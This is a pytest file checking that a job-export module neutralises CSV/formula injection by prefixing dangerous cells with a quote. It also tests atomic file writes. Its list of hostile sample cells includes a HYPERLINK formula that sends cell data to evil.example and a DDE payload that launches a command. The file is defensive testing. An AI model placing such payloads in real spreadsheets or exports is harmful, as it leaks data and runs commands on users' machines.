"""CSV export is safe to open in a spreadsheet (issue #9, item 17: CSV/formula injection).

OWASP (https://owasp.org/www-community/attacks/CSV_Injection): a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice and Google
Sheets. Batch names and prompts are user text, ``actual_prompt`` and ``request_id`` come from the
provider: none may reach a spreadsheet as a formula.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jobs.errors import UsageError
from jobs.export import FIELDS, csv_safe, write, write_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _row(**overrides: Any) -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(FIELDS)
    row.update(job_id="j1", batch="b1", batch_name="plain", status="succeeded", input={"prompt": "p"})
    row.update(overrides)
    return row


def _csv(rows: list[dict[str, Any]]) -> list[dict[str, str]]:
    buffer = io.StringIO()
    assert write(iter(rows), "csv", buffer) == len(rows)
    return list(csv.DictReader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize("text", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("column", ["batch_name", "actual_prompt", "request_id", "error"])
def test_formula_cells_get_a_leading_quote(column: str, text: str) -> None:
    (cell,) = (r[column] for r in _csv([_row(**{column: text})]))
    assert cell == "'" + text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_ordinary_cells_and_numbers_are_unchanged() -> None:
    (got,) = _csv([_row(batch_name="tokyo = sweep", actual_prompt="Cars - racing", cost_usd=-0.5, seed=-3)])
    assert got["batch_name"] == "tokyo = sweep"  # only a *leading* trigger matters
    assert got["actual_prompt"] == "Cars - racing"
    assert got["cost_usd"] == "-0.5"  # a number stays a number
    assert got["seed"] == "-3"
    assert json.loads(got["input"]) == {"prompt": "p"}


def test_jsonl_stays_exact() -> None:
    buffer = io.StringIO()
    write(iter([_row(batch_name=HOSTILE[0])]), "jsonl", buffer)
    assert json.loads(buffer.getvalue())["batch_name"] == HOSTILE[0]


def test_csv_safe_leaves_non_text_alone() -> None:
    assert csv_safe(None) is None
    assert csv_safe(-1) == -1
    assert csv_safe("") == ""
    assert csv_safe("=x") == "'=x"


def test_write_file_refuses_a_folder_and_an_impossible_parent(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="is a folder"):
        write_file(iter([_row()]), "csv", tmp_path)
    blocker = tmp_path / "plain-file"
    blocker.write_text("x")
    with pytest.raises(UsageError, match="cannot write the export"):
        write_file(iter([_row()]), "csv", blocker / "sub" / "out.csv")


def test_write_file_is_atomic(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("previous export\n")

    def rows() -> Iterator[dict[str, Any]]:
        yield _row()
        raise OSError(28, "No space left on device")

    with pytest.raises(UsageError, match="No space left"):
        write_file(rows(), "csv", target)
    assert target.read_text() == "previous export\n"  # never a truncated file under the name
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # and no temp file left
    assert write_file(iter([_row(), _row(job_id="j2")]), "jsonl", target) == 2
    assert len(target.read_text().splitlines()) == 2
